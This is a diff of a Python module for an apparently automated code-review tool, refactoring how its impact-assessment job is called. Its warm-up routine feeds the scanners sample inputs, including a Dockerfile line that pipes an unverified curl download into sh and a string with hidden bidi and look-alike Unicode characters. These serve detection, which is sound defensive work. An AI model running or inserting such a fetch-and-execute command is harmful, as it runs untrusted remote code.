@@ -21,7 +21,6 @@ from agents.review.checks.locks import comparison
 from agents.review.model.related import find_related
 from agents.syntax import impact, tests, validity
 from agents.syntax.hidden_text import find_hidden_text
-from agents.syntax.impact import find_impact
 from agents.syntax.languages import LANGUAGES
 from agents.syntax.outline import outline_file
 from agents.syntax.symbols.changes import ChangedSource, list_wanted
@@ -30,7 +29,6 @@ from agents.syntax.symbols.uses import Surrounding, find_references
 from agents.testing import coverage, test_selection
 from agents.testing.runners import reports
 from domain.errors import ToolError
-from domain.paths import is_document
 from domain.review.review import RiskLevel
 from workspace.sandbox.worker import name_job
 
@@ -85,14 +83,6 @@ def compare_versions(request: Any) -> JsonValue:
     return [each.model_dump(mode="json") for each in found]
 
 
-def assess_impact(request: Any) -> JsonValue:
-    """Compare one file before and after: the syntax trees of source, what acts in a document."""
-    path, language, base, head = (request[key] for key in ("path", "language", "base", "head"))
-    if is_document(path):
-        return impact.find_page_impact(path, base, head).value
-    return find_impact(language, base, head).value
-
-
 def outline(request: Any) -> JsonValue:
     """Outline what surrounds the changed lines of one file."""
     sides = (request["base"], request["head"])
@@ -121,7 +111,6 @@ def refer(request: Any) -> JsonValue:
 
 JOBS: Mapping[str, Callable[..., Any]] = {
     "avoidance": compare_versions,
-    "impact": assess_impact,
     "outline": outline,
     "wanted names": name_wanted,
     "related code": relate,
@@ -138,6 +127,7 @@ JOBS: Mapping[str, Callable[..., Any]] = {
             patterns.scan_both,
             dangers.scan_both,
             comparison.compare,
+            impact.assess,
             validity.find_broken,
             validity.find_new_fault,
         )
@@ -158,7 +148,7 @@ def prepare() -> None:
     patterns.scan_both("docker", "FROM a\nRUN curl -k https://x.org | sh\n", None)
     for language in dict.fromkeys(LANGUAGES.values()):
         both = {"path": "a", "language": language, "base": "a", "head": "b"}
-        assess_impact(both)
+        impact.assess("a", language, "a", "b")
         outline({**both, "added": [1], "removed": [1]})
     for language in FOLLOWED:
         one = {
@@ -174,7 +164,7 @@ def prepare() -> None:
         around: dict[str, JsonValue] = {"texts": {"b": "a"}, "paths": ["b"], "manifests": {"package.json": "{}"}}
         relate({"changes": [one], **around})
         refer({"path": "a", "language": language, "text": "a", "name": "a", **around})
-    assess_impact({"path": "a.md", "language": None, "base": "a", "head": "<b>"})
+    impact.assess("a.md", None, "a", "<b>")
     comparison.compare("cargo.lock", "version = 3\n", "version = 4\n")
     for path in ("a.py", "a.yml", "a.md"):
         find_hidden_text(path, "\u202eа\u3164b = 'x'", [1])
